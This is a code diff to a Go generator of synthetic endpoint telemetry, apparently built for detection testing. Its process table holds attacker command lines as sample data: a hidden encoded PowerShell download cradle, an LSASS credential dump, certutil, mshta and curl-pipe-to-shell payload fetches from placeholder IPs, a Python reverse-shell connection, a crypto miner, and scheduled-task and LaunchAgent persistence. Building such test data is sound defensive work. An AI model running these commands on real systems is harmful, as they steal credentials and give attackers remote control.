@@ -44,20 +44,21 @@ var techniques = []technique{
 type process struct {
 	file, path, cmd, parent string
 	platform                string
+	arg                     string // what %s in cmd stands for: ip, user or b64
 }
 
 var processes = []process{
-	{"powershell.exe", `\Device\HarddiskVolume3\Windows\System32\WindowsPowerShell\v1.0\`, `powershell.exe -NoP -W Hidden -Enc %s`, `C:\Windows\Explorer.EXE`, "Windows"},
-	{"cmd.exe", `\Device\HarddiskVolume3\Windows\System32\`, `cmd.exe /c whoami /all > %%TEMP%%\%s.txt`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\%s\Downloads\invoice.docm"`, "Windows"},
-	{"rundll32.exe", `\Device\HarddiskVolume3\Windows\System32\`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\%s.dmp full`, `cmd.exe /c`, "Windows"},
-	{"schtasks.exe", `\Device\HarddiskVolume3\Windows\System32\`, `schtasks /create /sc minute /mo 15 /tn "Updater%s" /tr "C:\ProgramData\upd.exe"`, `powershell.exe`, "Windows"},
-	{"mshta.exe", `\Device\HarddiskVolume3\Windows\System32\`, `mshta.exe http://198.51.100.%s/payload.hta`, `C:\Windows\Explorer.EXE`, "Windows"},
-	{"certutil.exe", `\Device\HarddiskVolume3\Windows\System32\`, `certutil.exe -urlcache -split -f http://203.0.113.%s/a.exe C:\Users\Public\a.exe`, `cmd.exe /c`, "Windows"},
-	{"bash", "/usr/bin/", `bash -c "curl -fsSL http://198.51.100.%s/x.sh | sh"`, `/usr/sbin/sshd -D`, "Linux"},
-	{"python3", "/usr/bin/", `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.%s",4444))'`, `/bin/bash`, "Linux"},
-	{"xmrig", "/tmp/.cache/", `/tmp/.cache/xmrig -o pool.example.net:3333 -u %s`, `/bin/sh -c`, "Linux"},
-	{"osascript", "/usr/bin/", `osascript -e 'do shell script "curl -s http://198.51.100.%s/m | sh"'`, `/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal`, "Mac"},
-	{"launchctl", "/bin/", `launchctl load -w /Users/%s/Library/LaunchAgents/com.update.plist`, `/bin/zsh`, "Mac"},
+	{"powershell.exe", `\Device\HarddiskVolume3\Windows\System32\WindowsPowerShell\v1.0\`, `powershell.exe -NoP -W Hidden -Enc %s`, `C:\Windows\Explorer.EXE`, "Windows", "b64"},
+	{"cmd.exe", `\Device\HarddiskVolume3\Windows\System32\`, `cmd.exe /c whoami /all > %%TEMP%%\%s.txt`, `"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\%s\Downloads\invoice.docm"`, "Windows", "user"},
+	{"rundll32.exe", `\Device\HarddiskVolume3\Windows\System32\`, `rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump 624 C:\Windows\Temp\%s.dmp full`, `cmd.exe /c`, "Windows", "user"},
+	{"schtasks.exe", `\Device\HarddiskVolume3\Windows\System32\`, `schtasks /create /sc minute /mo 15 /tn "Updater%s" /tr "C:\ProgramData\upd.exe"`, `powershell.exe`, "Windows", "user"},
+	{"mshta.exe", `\Device\HarddiskVolume3\Windows\System32\`, `mshta.exe http://198.51.100.%s/payload.hta`, `C:\Windows\Explorer.EXE`, "Windows", "ip"},
+	{"certutil.exe", `\Device\HarddiskVolume3\Windows\System32\`, `certutil.exe -urlcache -split -f http://203.0.113.%s/a.exe C:\Users\Public\a.exe`, `cmd.exe /c`, "Windows", "ip"},
+	{"bash", "/usr/bin/", `bash -c "curl -fsSL http://198.51.100.%s/x.sh | sh"`, `/usr/sbin/sshd -D`, "Linux", "ip"},
+	{"python3", "/usr/bin/", `python3 -c 'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.%s",4444))'`, `/bin/bash`, "Linux", "ip"},
+	{"xmrig", "/tmp/.cache/", `/tmp/.cache/xmrig -o pool.example.net:3333 -u %s`, `/bin/sh -c`, "Linux", "user"},
+	{"osascript", "/usr/bin/", `osascript -e 'do shell script "curl -s http://198.51.100.%s/m | sh"'`, `/Applications/Utilities/Terminal.app/Contents/MacOS/Terminal`, "Mac", "ip"},
+	{"launchctl", "/bin/", `launchctl load -w /Users/%s/Library/LaunchAgents/com.update.plist`, `/bin/zsh`, "Mac", "user"},
 }
 
 var firstNames = []string{"Alice", "Bruno", "Chen", "Dana", "Emeka", "Farah", "Gustav", "Hana", "Ivan", "Julia", "Kofi", "Lena"}
@@ -242,9 +243,10 @@ func genBehavior(r *rand.Rand, h host, t time.Time, users []user) behavior {
 	sha := sha256.Sum256([]byte(fmt.Sprint(r.Uint64())))
 	psha := sha256.Sum256([]byte(fmt.Sprint(r.Uint64())))
 	arg := fmt.Sprint(1 + r.IntN(254))
-	if strings.Contains(p.cmd, "-Enc") {
+	switch p.arg {
+	case "b64":
 		arg = "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA"
-	} else if strings.Contains(p.cmd, "Users") || strings.Contains(p.cmd, "-u %s") || strings.Contains(p.cmd, "txt") || strings.Contains(p.cmd, "dmp") || strings.Contains(p.cmd, "Updater") {
+	case "user":
 		arg = user
 	}
 	parent := p.parent
